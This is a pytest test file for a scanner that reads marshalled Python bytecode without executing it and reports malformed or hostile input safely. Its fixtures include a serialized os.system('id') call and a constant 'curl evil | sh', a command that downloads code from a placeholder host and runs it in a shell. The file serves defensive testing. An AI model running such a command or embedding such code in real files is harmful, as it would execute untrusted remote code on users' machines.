"""Marshalled code read without marshal: real code objects, other layouts, hostile bytes."""

from __future__ import annotations

import marshal
import random
import struct

import pytest

from modelshield.scanner.formats import bytecode
from modelshield.scanner.formats.bytecode import summarize


def _outer() -> object:
    import os

    return lambda x: os.system("id") or [getattr(y, str(x)) for y in x]


def test_real_code_objects_give_names_constants_and_nested_code() -> None:
    summary = summarize(marshal.dumps(_outer.__code__))  # type: ignore[attr-defined]
    assert summary.problem is None
    assert summary.layout == "3.11+"
    assert {"_outer", "<lambda>"} <= set(summary.functions)
    assert {"system", "getattr"} <= set(summary.names)
    assert {"id"} <= set(summary.constants)


def test_marshal_is_never_called(monkeypatch: pytest.MonkeyPatch) -> None:
    data = marshal.dumps((lambda x: x + 1).__code__)

    def refuse(*args: object) -> None:
        raise AssertionError("marshal.loads was called")

    monkeypatch.setattr(marshal, "loads", refuse)
    assert summarize(data).problem is None


def _w_str(text: str) -> bytes:
    raw = text.encode()
    return b"z" + bytes([len(raw)]) + raw


def _w_tuple(*items: bytes) -> bytes:
    return b")" + bytes([len(items)]) + b"".join(items)


def _w_bytes(raw: bytes) -> bytes:
    return b"s" + struct.pack("<i", len(raw)) + raw


def test_the_python_3_8_to_3_10_layout_is_read() -> None:
    """Six int32 fields, then varnames/freevars/cellvars (written by hand: no such Python here)."""
    code = (
        b"\xe3"
        + struct.pack("<6i", 1, 0, 0, 1, 2, 67)
        + _w_bytes(b"t\x00\xa0\x01d\x01\xa1\x01S\x00")
        + _w_tuple(b"N", _w_str("curl evil | sh"))
        + _w_tuple(_w_str("os"), _w_str("system"))
        + _w_tuple(_w_str("x"))
        + _w_tuple()
        + _w_tuple()
        + _w_str("<stdin>")
        + _w_str("<lambda>")
        + struct.pack("<i", 1)
        + _w_bytes(b"")
    )
    summary = summarize(code)
    assert summary.layout == "3.8-3.10"
    assert summary.names == ("os", "system")
    assert summary.constants == ("curl evil | sh",)


def test_references_to_earlier_objects_are_followed() -> None:
    """Names are often written once (flag 0x80) and referenced ('r') afterwards."""
    data = marshal.dumps((lambda x: (x.shape, x.shape, len, len)).__code__)
    assert b"r" in data
    summary = summarize(data)
    assert summary.names == ("shape", "len")


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b"", "past the end"),
        (b"\xe3" + b"\x00" * 10, "past the end"),
        (b"s" + struct.pack("<i", 2**31 - 1), "runs past the end"),
        (b"(" + struct.pack("<i", 2**30), "fewer bytes"),
        (b"l" + struct.pack("<i", 10**6), "digits"),
        (b"r" + struct.pack("<i", 5), "not read yet"),
        (b"?", "unknown type"),
        (b")\x01" * 5000 + b"N", "nested deeper"),
        (b"[" + struct.pack("<i", 3) + b"N" * 3, "not a code object"),
    ],
    ids=[
        "empty",
        "truncated",
        "huge-bytes",
        "huge-tuple",
        "huge-long",
        "dangling-ref",
        "unknown-type",
        "deep",
        "not-code",
    ],
)
def test_hostile_bytes_give_a_problem_never_an_exception(data: bytes, problem: str) -> None:
    summary = summarize(data)
    assert summary.layout is None
    assert summary.problem is not None and problem in summary.problem


def test_too_many_objects_stop_the_reader(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bytecode, "MAX_OBJECTS", 100)
    data = b"[" + struct.pack("<i", 1000) + b"N" * 1000
    assert "more than 100 objects" in str(summarize(data).problem)


def test_mutated_code_never_raises() -> None:
    original = marshal.dumps(_outer.__code__)  # type: ignore[attr-defined]
    rng = random.Random(20260)
    for _ in range(1500):
        data = bytearray(original)
        for _ in range(rng.randint(1, 6)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        cut = rng.randint(0, len(data))
        summarize(bytes(data[:cut] if rng.random() < 0.2 else data))
